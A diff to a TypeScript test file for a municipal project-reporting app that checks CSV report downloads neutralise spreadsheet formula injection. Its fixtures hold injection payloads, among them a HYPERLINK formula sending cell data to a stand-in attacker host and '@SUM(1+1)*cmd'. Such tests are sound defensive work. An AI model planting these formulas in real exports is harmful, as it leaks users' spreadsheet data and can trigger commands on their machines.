@@ -9,6 +9,7 @@ import { REPORT_KINDS } from '../src/reports/project-reports.ts';
 import { csvFields } from './helpers/downloads.ts';
 import { loginAs } from './helpers/http.ts';
 import { useTestServer } from './helpers/server.ts';
+import { addGoal, addProjectRecords, createAgency, createMunicipality, type TestMunicipality } from './helpers/world.ts';
 
 /** A field a spreadsheet would read as a formula. */
 const formula = (f: string) => /^[=+\-@\t\r]/.test(f) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(f);
@@ -16,12 +17,14 @@ const formula = (f: string) => /^[=+\-@\t\r]/.test(f) && !/^[+-]?\d+(?:[.,]\d+)?
 describe('CSV downloads and formulas', () => {
   const srv = useTestServer('pglite');
   const HYPERLINK = '=HYPERLINK("http://angriber.invalid/?d="&A1;"Klik")';
+  const w = {} as { m: TestMunicipality; analyst: string };
   beforeAll(async () => {
-    const pid = (await srv.t.db.query<{ id: number }>(`SELECT id FROM project WHERE key = 'aalborg'`)).rows[0].id;
-    await srv.t.db.query(`UPDATE project_goal SET title = $2 WHERE id = (SELECT min(id) FROM project_goal WHERE project_id = $1)`, [
-      pid,
-      HYPERLINK,
-    ]);
+    // A fresh municipality's project with a goal, a milestone, a report text and an activity type, each a formula.
+    w.m = await createMunicipality(srv.t.db, { women: 2 });
+    w.analyst = (await createAgency(srv.t.db)).analyst.username;
+    const pid = w.m.projectId;
+    await addGoal(srv.t.db, w.m, HYPERLINK);
+    await addProjectRecords(srv.t.db, w.m, 'csv');
     await srv.t.db.query(
       `UPDATE project_milestone SET content = '@SUM(1+1)*cmd' WHERE id = (SELECT min(id) FROM project_milestone WHERE project_id = $1)`,
       [pid],
@@ -31,12 +34,15 @@ describe('CSV downloads and formulas', () => {
       ON CONFLICT (project_id, section) DO UPDATE SET body = excluded.body`,
       [pid],
     );
-    await srv.t.db.query(`UPDATE project_activity_type SET name = '-2+3+cmd' WHERE project_id = $1`, [pid]);
+    await srv.t.db.query(
+      `INSERT INTO project_activity_type (project_id, key, name, category) VALUES ($1, 'formel', '-2+3+cmd', 'vejledning')`,
+      [pid],
+    );
   });
 
   it('neutralises every formula cell in every report CSV, and keeps negative numbers', async () => {
-    const s = await loginAs(srv.app, 'projektleder.aalborg');
-    const pid = (await srv.t.db.query<{ id: number }>(`SELECT id FROM project WHERE key = 'aalborg'`)).rows[0].id;
+    const s = await loginAs(srv.app, w.m.leader.username);
+    const pid = w.m.projectId;
     const seen = new Set<string>();
     for (const kind of REPORT_KINDS) {
       const res = await s.get(`/styring/rapporter/${kind}.csv?projekt=${pid}`);
@@ -51,7 +57,8 @@ describe('CSV downloads and formulas', () => {
   });
 
   it('neutralises the national report and the microdata download too', async () => {
-    const s = await loginAs(srv.app, 'analytiker.siri');
+    // The national downloads read every municipality (the demo's too); the analyst is the file's own.
+    const s = await loginAs(srv.app, w.analyst);
     for (const url of ['/nationalt/rapport.csv', '/nationalt/mikrodata.csv']) {
       const res = await s.get(url);
       expect(res.statusCode, url).toBe(200);
